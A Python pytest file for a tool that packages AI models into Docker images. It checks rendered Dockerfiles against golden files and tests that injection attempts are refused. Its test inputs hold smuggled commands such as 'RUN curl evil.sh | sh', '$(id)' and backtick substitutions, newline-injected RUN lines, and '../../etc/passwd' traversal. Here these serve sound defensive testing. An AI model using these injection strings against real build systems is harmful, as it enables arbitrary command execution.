"""Rendered build files: whole-file golden comparisons, injection attempts, hadolint, packaging."""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import subprocess
import sys
import zipfile

import pytest

from packager.errors import UserInputError
from packager.render import AdapterInput, RenderRequest, render_files, runtime_config, write_context

GOLDEN = os.path.join(os.path.dirname(__file__), "golden")
LOCK = {
    "packager_version": "0.1.0",
    "base": {"repo_id": "acme/tiny-llama", "commit": "0123456789abcdef", "path": "/models/tiny", "files": []},
    "adapter": {"files": [{"path": "adapter_model.safetensors", "sha256": "ab" * 32, "size": 10}]},
}
BAKED = RenderRequest(
    layout="baked",
    base_image="packager-runtime:0123abcd",
    image="127.0.0.1:5000/acme/demo:1.0",
    lock=LOCK,
    model_dir="/unused",
    served_name="demo",
)
SHARED = RenderRequest(
    layout="shared",
    base_image="packager-runtime:0123abcd",
    image="acme/shared:2",
    lock=LOCK,
    adapters=(AdapterInput("sql", "/a/sql", "cd" * 32), AdapterInput("chat", "/a/chat", "ef" * 32)),
    base_source="/srv/models/tiny-llama",
    served_name="shared",
)
WEIGHTS = ["model-00001-of-00002.safetensors", "model-00002-of-00002.safetensors"]
ONNX_INT8 = dataclasses.replace(
    BAKED,
    quantization="onnx-int8",
    backend="onnx",
    accuracy='{"greedy":0.95,"kind":"onnx-int8","size_ratio":0.26,"top1":0.97}',
)


def _golden(name: str, text: str) -> None:
    path = os.path.join(GOLDEN, name)
    if os.environ.get("UPDATE_GOLDEN"):
        with open(path, "w") as f:
            f.write(text)
    with open(path) as f:
        assert text == f.read(), f"{name} differs from its golden file (UPDATE_GOLDEN=1 rewrites it after review)"


@pytest.mark.parametrize(
    ("request_", "prefix"), [(BAKED, "baked"), (SHARED, "shared"), (ONNX_INT8, "baked-onnx-int8")]
)
def test_rendered_files_match_golden(request_, prefix) -> None:
    files = render_files(request_, WEIGHTS if prefix.startswith("baked") else [])
    for name, text in files.items():
        _golden(f"{prefix}.{name.lstrip('.')}", text)
    assert set(files) == ({"Dockerfile", ".dockerignore"} | ({"compose.yaml"} if prefix == "shared" else set()))


def test_runtime_is_told_how_to_load_the_artefact() -> None:
    assert runtime_config(ONNX_INT8)["backend"] == "onnx"
    assert runtime_config(dataclasses.replace(SHARED, load_quantization="bnb-nf4"))["load_quantization"] == "bnb-nf4"
    with pytest.raises(UserInputError, match="unknown runtime backend"):
        render_files(dataclasses.replace(BAKED, backend="tensorrt"), WEIGHTS)


def test_accuracy_label_cannot_inject_instructions() -> None:
    with pytest.raises(UserInputError, match="newline"):
        render_files(dataclasses.replace(ONNX_INT8, accuracy='{"a":1}"\nRUN curl evil.sh | sh\n#'), WEIGHTS)
    quoted = dataclasses.replace(ONNX_INT8, accuracy='x" \\ RUN curl $HOME')
    dockerfile = render_files(quoted, WEIGHTS)["Dockerfile"]
    assert r'io.packager.accuracy="x\" \\ RUN curl \$HOME"' in dockerfile


def test_weights_come_before_runtime_one_layer_each() -> None:
    lines = render_files(BAKED, WEIGHTS)["Dockerfile"].splitlines()
    copies = [i for i, line in enumerate(lines) if line.startswith("COPY")]
    weight_copies = [i for i in copies if "model/weights/" in lines[i]]
    runtime_copy = next(i for i in copies if "runtime/" in lines[i])
    assert len(weight_copies) == len(WEIGHTS) and max(weight_copies) < runtime_copy
    assert lines.index(next(line for line in lines if line.startswith("LABEL"))) > runtime_copy


INJECTIONS = [
    "python:3.11-slim\nRUN touch /tmp/pwned",
    'acme/x:1" \\\nRUN id',
    "acme/$(id):1",
    "../../etc/passwd",
    "acme/x:1\rRUN id",
    "acme/x:`id`",
]


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("field", ["base_image", "image"])
def test_injection_in_image_references_is_refused(field, value) -> None:
    request = RenderRequest(**{**BAKED.__dict__, field: value})
    with pytest.raises(UserInputError, match="not a valid image reference"):
        render_files(request, WEIGHTS)


@pytest.mark.parametrize("name", ["../escape", "a/b", "x\nRUN id", "$(id)", "sq'l", '"q"', "", ".."])
def test_injection_in_adapter_names_is_refused(name) -> None:
    request = RenderRequest(**{**SHARED.__dict__, "adapters": (AdapterInput(name, "/a/x"),)})
    with pytest.raises(UserInputError, match="not a valid name"):
        render_files(request, [])


@pytest.mark.parametrize("revision", ['main" \\\nRUN id', "v1\nRUN touch /pwned"])
def test_label_values_cannot_break_out(revision) -> None:
    lock = {**LOCK, "base": {**LOCK["base"], "commit": revision}}
    request = RenderRequest(**{**BAKED.__dict__, "lock": lock})
    if "\n" in revision:
        with pytest.raises(UserInputError, match="newline"):
            render_files(request, WEIGHTS)
        return
    dockerfile = render_files(request, WEIGHTS)["Dockerfile"]
    assert not any(line.startswith("RUN") for line in dockerfile.splitlines())
    assert '"main\\" \\\\' in dockerfile


def test_label_dollar_is_not_expanded() -> None:
    lock = {**LOCK, "base": {**LOCK["base"], "commit": "$HOME${PATH}"}}
    dockerfile = render_files(RenderRequest(**{**BAKED.__dict__, "lock": lock}), WEIGHTS)["Dockerfile"]
    assert '"\\$HOME\\${PATH}"' in dockerfile


@pytest.mark.parametrize("path", ["/srv/x}\nservices: {}", "/srv/$HOME", 'relative/"x"'])
def test_compose_base_path_is_validated(path) -> None:
    with pytest.raises(UserInputError, match="base path"):
        render_files(RenderRequest(**{**SHARED.__dict__, "base_source": path}), [])


def test_unknown_layout_is_refused() -> None:
    with pytest.raises(UserInputError, match="unknown layout 'fat'"):
        render_files(RenderRequest(**{**BAKED.__dict__, "layout": "fat"}), WEIGHTS)


@pytest.mark.parametrize("request_", [BAKED, SHARED], ids=["baked", "shared"])
def test_hadolint_passes_without_warnings(request_, tmp_path) -> None:
    hadolint = shutil.which("hadolint") or os.path.join(os.path.dirname(sys.executable), "hadolint")
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(render_files(request_, WEIGHTS if request_.layout == "baked" else [])["Dockerfile"])
    proc = subprocess.run(
        [hadolint, "-f", "json", "--failure-threshold", "warning", str(dockerfile)], capture_output=True, text=True
    )
    findings = json.loads(proc.stdout or "[]")
    assert proc.returncode == 0 and not [f for f in findings if f["level"] in ("error", "warning")], findings


def test_write_context_links_model_files_and_is_atomic(tmp_path) -> None:
    model = tmp_path / "merged"
    model.mkdir()
    (model / "model.safetensors").write_bytes(b"w" * 1000)
    (model / "config.json").write_text("{}")
    (model / "packager.lock.json").write_text("{}")
    request = RenderRequest(**{**BAKED.__dict__, "model_dir": str(model)})
    context = write_context(request, str(tmp_path / "ctx"))
    linked = os.path.join(context, "model", "weights", "model.safetensors")
    assert os.stat(linked).st_ino == os.stat(model / "model.safetensors").st_ino
    assert os.path.isfile(os.path.join(context, "model", "meta", "config.json"))
    assert os.path.isfile(os.path.join(context, "runtime", "packager_runtime", "server.py"))
    assert json.loads((tmp_path / "ctx" / "runtime.json").read_text())["layout"] == "baked"
    bad = RenderRequest(**{**BAKED.__dict__, "model_dir": str(model), "image": "Bad Image"})
    with pytest.raises(UserInputError):
        write_context(bad, str(tmp_path / "ctx2"))
    assert sorted(os.listdir(tmp_path)) == ["ctx", "merged"]


def test_wheel_ships_every_template(tmp_path) -> None:
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    subprocess.run(
        [sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q", "-w", str(tmp_path), root],
        check=True,
        capture_output=True,
    )
    wheel = next(p for p in os.listdir(tmp_path) if p.endswith(".whl"))
    names = zipfile.ZipFile(tmp_path / wheel).namelist()
    for layout in ("baked", "shared"):
        assert f"packager/templates/Dockerfile.{layout}.j2" in names
    assert "packager/templates/labels.j2" in names and "packager/runtime/server.py" in names
